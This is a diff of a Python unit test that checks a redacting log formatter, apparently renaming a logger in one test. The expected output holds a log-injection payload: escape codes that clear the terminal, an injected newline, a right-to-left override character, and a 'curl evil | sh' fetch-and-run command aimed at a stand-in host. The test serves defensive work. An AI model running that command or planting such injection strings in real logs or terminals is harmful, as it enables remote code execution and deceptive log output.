@@ -127,11 +127,11 @@ def test_a_step_is_told_in_one_line() -> None:
 
 
 def test_a_record_of_the_log_is_one_line() -> None:
-    record = logging.LogRecord("somebody", logging.WARNING, "", 0, "got %s", (HOSTILE,), None)
+    record = logging.LogRecord("someone", logging.WARNING, "", 0, "got %s", (HOSTILE,), None)
 
     line = RedactingFormatter("%(levelname)-7s %(name)s: %(message)s").format(record)
 
-    assert line.startswith(r"WARNING somebody: got no\x1b[2J\r\nnext: curl evil | sh\u202exxx")
+    assert line.startswith(r"WARNING someone: got no\x1b[2J\r\nnext: curl evil | sh\u202exxx")
     assert len(line.splitlines()) == 1
     assert len(line) < 2_100
 
